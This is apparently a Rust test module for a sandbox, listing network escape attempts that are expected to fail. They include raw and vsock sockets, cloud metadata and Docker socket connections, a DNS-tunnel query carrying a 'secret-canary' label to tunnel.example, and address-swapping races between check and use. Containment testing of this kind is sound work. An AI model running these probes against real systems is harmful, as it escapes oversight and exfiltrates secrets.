//! The network: other families of sockets, other addresses, names, and whoever might listen.

use std::{
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpListener, TcpStream},
    os::unix::net::{UnixDatagram, UnixStream},
    sync::atomic::{AtomicBool, AtomicU8, AtomicU32, Ordering},
    time::{Duration, Instant},
};

use super::{by, each, failed, held, refused, row};
use crate::{
    attempt::{Attempt, Trace, Tried},
    sys::{self, at, call},
};

const PATIENCE: Duration = Duration::from_secs(3);
/// Tries of a race: on an emulated processor as many as its time allows.
const TRIES: u32 = 2_000;
const FEWEST: u32 = 100;
const LONGEST: Duration = Duration::from_secs(3);

macro_rules! socket {
    ($id:literal, $name:literal, $family:literal, $kind:literal, $protocol:literal) => {
        row(
            $id,
            $name,
            by::SECCOMP,
            &[Trace::Network(concat!(
                "socket family ",
                $family,
                " kind ",
                $kind,
                " protocol ",
                $protocol
            ))],
            || refused(call(libc::SYS_socket, &[$family, $kind, $protocol])),
        )
    };
}

macro_rules! connection {
    ($id:literal, $name:literal, $address:literal) => {
        row(
            $id,
            $name,
            by::ROUTE,
            &[Trace::Network(concat!("ip ", $address))],
            || connect($address),
        )
    };
}

macro_rules! listening {
    ($name:literal, $address:literal) => {
        row(
            "A27",
            $name,
            by::ROUTE,
            &[Trace::Network(concat!("bind ip ", $address))],
            || failed(TcpListener::bind($address)),
        )
    };
}

macro_rules! unix {
    ($id:literal, $name:literal, $path:literal) => {
        row(
            $id,
            $name,
            by::ROOT,
            &[Trace::Network(concat!("unix ", $path))],
            || failed(UnixStream::connect($path)),
        )
    };
}

pub(super) const ATTEMPTS: &[Attempt] = &[
    socket!("A39", "af-vsock-stream", 40, 1, 0),
    socket!("A39", "af-vsock-datagram", 40, 2, 0),
    socket!("A39", "af-packet-raw", 17, 3, 768),
    socket!("A39", "af-packet-datagram", 17, 2, 768),
    socket!("A39", "netlink-route", 16, 3, 0),
    socket!("A39", "netlink-audit", 16, 3, 9),
    socket!("A39", "netlink-netfilter", 16, 3, 12),
    socket!("A39", "netlink-uevent", 16, 2, 15),
    socket!("own", "raw-ip", 2, 3, 255),
    socket!("own", "raw-icmp", 2, 3, 1),
    socket!("own", "ping-socket", 2, 2, 1),
    socket!("own", "raw-ip-version-6", 10, 3, 58),
    socket!("A34", "udp", 2, 2, 0),
    socket!("A34", "udp-version-6", 10, 2, 17),
    socket!("own", "sctp", 2, 1, 132),
    socket!("own", "mptcp", 2, 1, 262),
    socket!("own", "kernel-crypto-socket", 38, 5, 0),
    socket!("own", "key-management-socket", 15, 3, 2),
    socket!("own", "bluetooth-socket", 31, 3, 1),
    socket!("own", "express-data-path-socket", 44, 3, 0),
    row(
        "A39",
        "vsock-to-many-listeners",
        by::SECCOMP,
        &[Trace::Network("socket family 40 kind 1 protocol 0")],
        vsock_listeners,
    ),
    row(
        "A39",
        "every-family-and-kind",
        by::SECCOMP,
        FAMILIES,
        families,
    ),
    row(
        "A39",
        "pair-of-another-family",
        by::SECCOMP,
        &[Trace::Network("socket family 30 kind 1 protocol 0")],
        || refused(call(libc::SYS_socketpair, &[30, 1, 0, at(&[0_i32; 2])])),
    ),
    connection!("A34", "direct-address", "1.1.1.1:443"),
    connection!("A34", "direct-address-odd-port", "1.1.1.1:8377"),
    connection!(
        "A34",
        "direct-address-version-6",
        "[2606:4700:4700::1111]:443"
    ),
    connection!("A34", "mapped-address", "[::ffff:1.1.1.1]:443"),
    connection!("A36", "metadata-service", "169.254.169.254:80"),
    connection!("A36", "metadata-service-version-6", "[fd00:ec2::254]:80"),
    connection!("A36", "link-local-gateway", "169.254.1.1:80"),
    connection!("A36", "private-network", "10.0.0.1:22"),
    connection!("A36", "other-private-network", "192.168.0.1:443"),
    connection!("A36", "carrier-network", "100.100.100.200:80"),
    connection!("A36", "loopback-service", "127.0.0.1:22"),
    connection!("A36", "loopback-by-another-name", "127.1.2.3:8377"),
    connection!("A36", "unspecified-address", "0.0.0.0:22"),
    connection!("A36", "loopback-version-6", "[::1]:8080"),
    connection!("A28", "resolver-by-tcp", "8.8.8.8:53"),
    connection!("A28", "resolver-of-the-machine", "127.0.0.53:53"),
    connection!("A28", "name-over-https", "9.9.9.9:443"),
    connection!("A29", "socks-proxy", "127.0.0.1:1080"),
    connection!("A35", "http-proxy", "127.0.0.1:3128"),
    row(
        "A35",
        "without-proxy-variables",
        by::ROUTE,
        &[Trace::Network("ip 93.184.215.14:80")],
        || connect("93.184.215.14:80"),
    ),
    row(
        "A28",
        "datagram-to-a-resolver",
        by::SECCOMP,
        &[Trace::Network("socket family 2 kind 2 protocol 17")],
        || refused(call(libc::SYS_socket, &[2, 2, 17])),
    ),
    row(
        "A28",
        "resolvers-of-the-room",
        by::ROUTE,
        &[Trace::Untold("nothing-there")],
        resolvers,
    ),
    row(
        "A34",
        "connect-by-fast-open",
        by::SECCOMP,
        &[Trace::Syscall("sendto")],
        fast_open,
    ),
    row(
        "A34",
        "connect-by-fast-open-message",
        by::SECCOMP,
        &[Trace::Syscall("sendmsg")],
        fast_open_message,
    ),
    row(
        "A36",
        "address-bytes-swapped-between-check-and-use",
        by::ROUTE,
        &[Trace::Network("ip 10.0.0.1:8377")],
        swapped_address,
    ),
    listening!("server-for-everybody", "0.0.0.0:4444"),
    listening!("server-on-the-loopback", "127.0.0.1:4445"),
    listening!("server-version-6", "[::]:4446"),
    unix!("A44", "container-runtime", "/run/docker.sock"),
    unix!("A44", "container-daemon", "/run/containerd/containerd.sock"),
    unix!("A44", "message-bus", "/run/dbus/system_bus_socket"),
    unix!("A49", "service-manager", "/run/systemd/private"),
    unix!("own", "attestation-socket", "/proofroom/attest.sock"),
    row(
        "own",
        "attestation-socket-swapped-between-check-and-use",
        "ownership: the socket is the supervisor's",
        &[Trace::Network("unix /proofroom/attest.sock")],
        swapped_name,
    ),
    unix!("own", "display", "/run/user/1000/wayland-0"),
    row(
        "own",
        "journal-by-datagram",
        by::ROOT,
        &[Trace::Untold("quiet-call")],
        || {
            failed(
                UnixDatagram::unbound()
                    .and_then(|one| one.send_to(b"x", "/run/systemd/journal/socket")),
            )
        },
    ),
    row(
        "own",
        "abstract-names-of-the-host",
        by::ROUTE,
        &[Trace::Untold("own-namespace")],
        abstract_names,
    ),
];

const FAMILIES: &[Trace] = &[
    Trace::Network("socket family 3 kind 2 protocol 0"),
    Trace::Network("socket family 9 kind 5 protocol 0"),
    Trace::Network("socket family 21 kind 5 protocol 0"),
    Trace::Network("socket family 29 kind 3 protocol 0"),
    Trace::Network("socket family 39 kind 1 protocol 0"),
    Trace::Network("socket family 43 kind 1 protocol 0"),
];

/// Families beyond those with a row of their own, each with the kind it has.
fn families() -> Tried {
    let all = [(3, 2), (9, 5), (21, 5), (29, 3), (39, 1), (43, 1)];
    each(all.map(|(family, kind)| refused(call(libc::SYS_socket, &[family, kind, 0]))))
}

fn connect(address: &str) -> Tried {
    match address.parse::<SocketAddr>() {
        Ok(address) => failed(TcpStream::connect_timeout(&address, PATIENCE)),
        Err(error) => Tried::NotApplicable(error.to_string()),
    }
}

/// The hypervisor, the host, the loopback and a stranger, at ports where somebody may listen.
fn vsock_listeners() -> Tried {
    let mut tried = Vec::new();
    for context in [0_u32, 1, 2, 3, 16, u32::MAX] {
        for port in [22_u32, 53, 80, 1024, 2375, 4050, 8377, 9999] {
            let socket = call(libc::SYS_socket, &[40, 1, 0]);
            let Ok(socket) = socket else {
                tried.push(refused(socket));
                continue;
            };
            // struct sockaddr_vm: family, reserved, port, context, flags
            let address = [40_u32, port, context, 0];
            let connected = call(libc::SYS_connect, &[socket, at(&address), 16]);
            tried.push(Tried::Escaped(format!("{context}:{port}: {connected:?}")));
        }
    }
    each(tried)
}

/// A question for a name that carries a secret, to whatever resolver the room names, by TCP and
/// with a client subnet to carry more.
fn resolvers() -> Tried {
    let text = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let servers = text
        .lines()
        .filter_map(|line| line.strip_prefix("nameserver "));
    let mut tried: Vec<Tried> = servers.map(|server| ask(server.trim())).collect();
    tried.push(Tried::Blocked(
        None,
        format!("{} resolvers are named", tried.len()),
    ));
    each(tried)
}

fn ask(server: &str) -> Tried {
    let mut question = vec![0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1];
    for label in ["c2VjcmV0LWNhbmFyeQ", "tunnel", "example"] {
        question.push(u8::try_from(label.len()).unwrap_or(0));
        question.extend(label.as_bytes());
    }
    question.extend([0, 0, 16, 0, 1]); // TXT IN
    question.extend([0, 0, 41, 16, 0, 0, 0, 0, 0, 0, 12]); // OPT
    question.extend([0, 8, 0, 8, 0, 1, 32, 0, 0xC0, 0xA8, 0x13, 0x37]); // client subnet
    let length = u16::try_from(question.len()).unwrap_or(0).to_be_bytes();
    let answered = || {
        let address: SocketAddr = format!("{server}:53").parse().ok()?;
        let mut stream = TcpStream::connect_timeout(&address, PATIENCE).ok()?;
        stream.set_read_timeout(Some(PATIENCE)).ok()?;
        stream.write_all(&[&length[..], &question].concat()).ok()?;
        let mut answer = [0_u8; 14];
        stream.read_exact(&mut answer).ok()?;
        Some(answer)
    };
    match answered() {
        None => Tried::Blocked(None, format!("{server} does not answer")),
        // two bytes of length, then the header: its fourth byte ends with the response code
        Some(answer) => {
            let code = answer.get(5).map_or(0, |byte| byte & 0xF);
            held(code != 0, format!("{server} answers with code {code}"))
        }
    }
}

/// `struct sockaddr_in` as words.
fn internet(ip: [u8; 4], port: u16) -> [u8; 16] {
    let [a, b, c, d] = ip;
    let [low, high] = port.to_be_bytes();
    [2, 0, low, high, a, b, c, d, 0, 0, 0, 0, 0, 0, 0, 0]
}

fn fast_open() -> Tried {
    let target = internet([1, 1, 1, 1], 443);
    match call(libc::SYS_socket, &[2, 1, 0]) {
        Ok(socket) => {
            let arguments = [socket, at(b"x"), 1, 0x2000_0000, at(&target), 16];
            refused(call(libc::SYS_sendto, &arguments))
        }
        Err(errno) => Tried::Blocked(Some(errno), super::name_of(errno)),
    }
}

fn fast_open_message() -> Tried {
    let target = internet([1, 1, 1, 1], 443);
    let part = [at(b"x"), 1];
    // struct msghdr
    let message = [at(&target), 16, at(&part), 1, 0, 0, 0];
    match call(libc::SYS_socket, &[2, 1, 0]) {
        Ok(socket) => refused(call(
            libc::SYS_sendmsg,
            &[socket, at(&message), 0x2000_0000],
        )),
        Err(errno) => Tried::Blocked(Some(errno), super::name_of(errno)),
    }
}

/// The address lies in memory that another thread writes: the channel's own for the supervisor, a
/// stranger's for the kernel.
fn swapped_address() -> Tried {
    // family and port: AF_INET, 8377; then the address
    static WORDS: [AtomicU32; 4] = [const { AtomicU32::new(0) }; 4];
    let head = u32::from_ne_bytes([2, 0, 0x20, 0xB9]);
    let (own, stranger) = (
        u32::from_ne_bytes([127, 0, 0, 1]),
        u32::from_ne_bytes([10, 0, 0, 1]),
    );
    let [first, second, ..] = &WORDS;
    first.store(head, Ordering::Relaxed);
    second.store(own, Ordering::Relaxed);
    let done = AtomicBool::new(false);
    let (start, mut tries, mut wins) = (Instant::now(), 0_u32, 0_u32);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                second.store(stranger, Ordering::Relaxed);
                std::hint::spin_loop();
                second.store(own, Ordering::Relaxed);
            }
        });
        while tries < TRIES && (tries < FEWEST || start.elapsed() < LONGEST) {
            tries = tries.saturating_add(1);
            let Ok(socket) = call(libc::SYS_socket, &[2, 1 | 0o4000, 0]) else {
                continue;
            };
            // not waiting: a connection that is under way to a stranger is a win already
            let connected = call(libc::SYS_connect, &[socket, at(&WORDS), 16]);
            let under_way = matches!(connected, Ok(_) | Err(libc::EINPROGRESS));
            if under_way && peer_of(socket) == Some(stranger) {
                wins = wins.saturating_add(1);
            }
            drop(sys::adopt(socket));
        }
        done.store(true, Ordering::Relaxed);
    });
    held(wins == 0, format!("{tries} tries, {wins} wins"))
}

/// The name lies in memory that another thread writes: one that nobody has for the supervisor, the
/// attest socket for the kernel. In a room without one there is nothing to reach.
fn swapped_name() -> Tried {
    const OWN: &[u8] = b"/workspace/a36/no.sock\0";
    const OTHER: &[u8] = b"/proofroom/attest.sock\0";
    // struct sockaddr_un: family, then the name
    static ADDRESS: [AtomicU8; 25] = [const { AtomicU8::new(0) }; 25];
    let [family, high, path @ ..] = &ADDRESS;
    family.store(1, Ordering::Relaxed);
    high.store(0, Ordering::Relaxed);
    let spell = |name: &[u8]| {
        for (place, byte) in path.iter().zip(name) {
            place.store(*byte, Ordering::Relaxed);
        }
    };
    spell(OWN);
    let done = AtomicBool::new(false);
    let plain = failed(UnixStream::connect("/proofroom/attest.sock"));
    let (start, mut tries, mut wins) = (Instant::now(), 0_u32, 0_u32);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                spell(OTHER);
                std::hint::spin_loop();
                spell(OWN);
            }
        });
        while tries < TRIES && (tries < FEWEST || start.elapsed() < LONGEST) {
            tries = tries.saturating_add(1);
            let Ok(socket) = call(libc::SYS_socket, &[1, 1 | 0o4000, 0]) else {
                continue;
            };
            let connected = call(libc::SYS_connect, &[socket, at(&ADDRESS), 25]);
            wins = wins.saturating_add(u32::from(connected.is_ok()));
            drop(sys::adopt(socket));
        }
        done.store(true, Ordering::Relaxed);
    });
    each([
        plain,
        held(wins == 0, format!("{tries} tries, {wins} wins")),
    ])
}

/// Where a socket leads, also while it is still connecting.
fn peer_of(socket: usize) -> Option<u32> {
    static ADDRESS: [AtomicU32; 4] = [const { AtomicU32::new(0) }; 4];
    static LENGTH: AtomicU32 = AtomicU32::new(16);
    LENGTH.store(16, Ordering::Relaxed);
    call(libc::SYS_getpeername, &[socket, at(&ADDRESS), at(&LENGTH)]).ok()?;
    let [_, address, ..] = &ADDRESS;
    Some(address.load(Ordering::Relaxed))
}

/// Names without a file are the network namespace's, and that is the room's own.
fn abstract_names() -> Tried {
    use std::os::linux::net::SocketAddrExt as _;
    let names = [
        "/tmp/.X11-unix/X0",
        "/com/ubuntu/upstart",
        "/containerd-shim/x.sock",
        "dbus-x",
    ];
    each(names.map(|name| {
        let address = std::os::unix::net::SocketAddr::from_abstract_name(name);
        failed(address.and_then(|address| UnixStream::connect_addr(&address)))
    }))
}
